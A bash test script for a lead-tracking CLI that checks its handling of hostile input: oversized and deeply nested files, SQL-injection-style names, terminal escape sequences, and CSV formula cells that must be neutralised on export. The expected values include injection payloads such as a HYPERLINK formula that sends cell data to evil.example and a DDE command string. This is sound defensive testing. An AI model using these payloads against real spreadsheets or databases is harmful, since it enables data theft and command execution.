#!/usr/bin/env bash
# Issue 9.4: hostile input. Every case of Tests/Corpus/hostile/MANIFEST (events, CSV, mapping,
# playbook, theme, config, command-line values) gets its documented exit status and message,
# never crashes, and never puts a raw control character on the terminal. Then: SQL-looking and
# escape-sequence names are stored verbatim and shown inert; the schema is intact; formula
# cells (=, +, -, @, tab, CR) are neutralised on CSV export.
source "$(dirname "$0")/../lib.sh"
root=$(cd "$(dirname "$0")/../.." && pwd)
corpus="$root/Tests/Corpus/hostile"
BIN=${LEADBOARD_RELEASE_BIN:-$LEADBOARD_BIN}
cd "$work"
NOW=2026-11-03T00:00:00Z
cp "$corpus"/* .
# Generated members (too big to keep in git): nesting 100,000 deep, and a 1 MB line.
python3 - <<'PY'
import json
with open("deep-nesting.jsonl", "w") as f:
    f.write('{"id":"deep","type":"note","at":"2026-11-02T09:00:00Z","lead":"SQL1","text":' + "[" * 100000 + "]" * 100000 + "}\n")
with open("deep-nesting.json5", "w") as f:
    f.write("{" + "a:{" * 100000 + "}" * 100001 + "\n")
with open("long-line.jsonl", "w") as f:
    f.write(json.dumps({"id": "long", "type": "form_submit", "at": "2026-11-02T09:00:00Z", "lead": "LONG",
                        "email": "long@example.com", "name": "n" * 1_000_000}) + "\n")
with open("over-long-line.jsonl", "w") as f:
    # 20 MB in one line (read past, not held), then a valid event, then a 2 MB line without a newline.
    f.write(json.dumps({"id": "over", "type": "note", "at": "2026-11-02T09:00:00Z", "lead": "LONG", "text": "x" * 20_000_000}) + "\n")
    f.write(json.dumps({"id": "after", "type": "note", "at": "2026-11-02T09:00:01Z", "lead": "LONG", "text": "after the long line"}) + "\n")
    f.write(json.dumps({"id": "tail", "type": "note", "at": "2026-11-02T09:00:02Z", "lead": "LONG", "text": "y" * 2_000_000}))
with open("crlf-at-limit.jsonl", "wb") as f:
    # CRLF lines: exactly 1 MiB without the line ending (kept), one byte more (refused).
    for i, size in (("fit", 1 << 20), ("over", (1 << 20) + 1)):
        head = json.dumps({"id": i, "type": "note", "at": "2026-11-02T09:00:03Z", "lead": "LONG", "text": ""})
        f.write((head[:-2] + "x" * (size - len(head)) + '"}\r\n').encode())
PY
"$BIN" init --db s.db >/dev/null
tables_before=$(sqlite3 s.db "SELECT group_concat(name) FROM (SELECT name FROM sqlite_master ORDER BY name)")

check "every manifest case has its documented outcome" python3 - "$BIN" "$NOW" <<'PY'
import os, re, shlex, subprocess, sys
BIN, NOW = sys.argv[1], sys.argv[2]
def unescape(arg):
    # \e, \a and \xNN in a cli line are raw bytes (surrogateescape keeps invalid UTF-8 as is).
    out = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(0xDC00 + int(m.group(1), 16)) if int(m.group(1), 16) >= 0x80 else chr(int(m.group(1), 16)), arg)
    return out.replace("\\e", "\x1b").replace("\\a", "\x07")
failures, n = [], 0
env = dict(os.environ)
for line in open("MANIFEST", encoding="utf-8"):
    line = line.rstrip("\n")
    if not line or line.startswith("#"): continue
    kind, what, code, text = line.split("|", 3)
    config = None
    if kind == "ingest": cmd = ["ingest", what, "--db", "s.db"]
    elif kind == "import": cmd = ["import", what, "--db", "s.db", "--now", NOW]
    elif kind == "mapping": cmd = ["import", "formula-cells.csv", "--mapping", what, "--db", "s.db", "--now", NOW]
    elif kind == "playbook": cmd = ["playbook", "check", what]
    elif kind == "theme": cmd = ["board", "--theme", what, "--db", "s.db"]
    elif kind == "config": cmd, config = ["board", "--db", "s.db"], what
    elif kind == "cli": cmd = [unescape(a) for a in shlex.split(what)] + ["--db", "s.db"]
    else: failures.append(f"unknown kind in: {line}"); continue
    cfg = os.path.join(env["XDG_CONFIG_HOME"], "leadboard", "config.json5")
    if config:
        os.makedirs(os.path.dirname(cfg), exist_ok=True)
        open(cfg, "wb").write(open(config, "rb").read())
    p = subprocess.run([BIN] + [a.encode("utf-8", "surrogateescape") for a in cmd], capture_output=True, env=env,
                       stdin=subprocess.DEVNULL, timeout=120)
    if config: os.remove(cfg)
    out = p.stdout + p.stderr
    shown = out.decode("utf-8", "replace")
    n += 1
    problems = []
    if p.returncode < 0 or p.returncode >= 128 or b"Fatal error" in out or b"Backtrac" in out:
        problems.append(f"crashed (exit {p.returncode})")
    elif str(p.returncode) != code:
        problems.append(f"exit {p.returncode}, documented {code}")
    if text not in shown:
        problems.append(f"no '{text}' in the output")
    if re.search(rb"[\x07\x1b]|\xc2[\x80-\x9f]", out):
        problems.append("a raw control character reached the terminal")
    if problems:
        failures.append(f"{kind} {what}: " + "; ".join(problems) + "\n      | " + shown[:300].replace("\n", "\n      | "))
print(f"    {n} cases, {len(failures)} off their documented outcome")
for f in failures: print("    " + f)
sys.exit(1 if failures else 0)
PY

check "the schema is intact after the SQL-looking names" test "$(sqlite3 s.db "SELECT group_concat(name) FROM (SELECT name FROM sqlite_master ORDER BY name)")" = "$tables_before"
check "integrity ok" test "$(sqlite3 s.db 'PRAGMA integrity_check')" = ok
check "SQL-looking names and ids are stored verbatim" python3 - "$BIN" <<'PY'
import json, subprocess, sys
BIN = sys.argv[1]
def show(lead): return json.loads(subprocess.run([BIN, "show", lead, "--json", "--db", "s.db"], capture_output=True, check=True).stdout)
a = show("SQL1")["profile"]; b = show("L'; DELETE FROM events;--")["profile"]
assert a["name"] == "'); DROP TABLE leads;--" and a["company"] == "Robert'); DROP TABLE students;--", a
assert b["name"] == '" OR 1=1 --' and b["company"] == "%_\\", b
PY
check "escape sequences are stored verbatim (JSON output escapes them)" bash -c "
  '$BIN' show ESC1 --json --db s.db | python3 -c 'import json,sys; d = json.load(sys.stdin)[\"profile\"]; assert d[\"name\"] == \"Clear\x1b[2J\x1b[H Screen\", d[\"name\"]'"
check "... and shown inert in every text view (leads, show, timeline, report)" bash -c "
  for args in 'leads --limit 100' 'show ESC1' 'show ESC2' 'show ESC3' 'leads --search Clip' 'report reps'; do
    '$BIN' \$args --db s.db --now $NOW > v.out 2>&1
    if grep -qP '[\x07\x1b]|\xc2[\x80-\x9f]' v.out; then echo \"    raw control character in: \$args\"; exit 1; fi
  done
  '$BIN' show ESC1 --db s.db --now $NOW | grep -q 'Clear␛\[2J␛\[H Screen'"
check "formula cells are neutralised on CSV export, plain numbers left alone" bash -c "
  '$BIN' export --db s.db --now $NOW --output x.csv && python3 - <<'PY'
import csv
csv.field_size_limit(1 << 24)
rows = {r['id']: r for r in csv.DictReader(open('x.csv', newline=''))}
want = {
    ('F1', 'name'): '\'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")', ('F1', 'title'): \"'=1+1\",
    ('F2', 'name'): \"'+1+1\", ('F2', 'company'): \"'=cmd|' /C calc'!A0\", ('F2', 'title'): \"'@SUM(A1:A9)\",
    ('F3', 'name'): \"'-2+3\", ('F3', 'company'): 'Tabbed', ('F3', 'title'): '-12',
    ('F4', 'name'): \"'\rCarriage\",
    ('FX1', 'name'): \"'\t=1+1\", ('FX1', 'company'): \"'\rCR Corp\", ('FX1', 'title'): \"'-cmd\", ('F4', 'company'): \"'@me\", ('F4', 'title'): \"'+81 3 1234 5678\",
}
for (lead, col), value in want.items():
    assert rows[lead][col] == value, (lead, col, rows[lead][col], value)
for r in rows.values():
    for col, v in r.items():
        assert not (v[:1] in ('=', '+', '@', '\t', '\r') or (v[:1] == '-' and not v.lstrip('-').replace('.', '').isdigit())), (r['id'], col, v)
PY"
finish
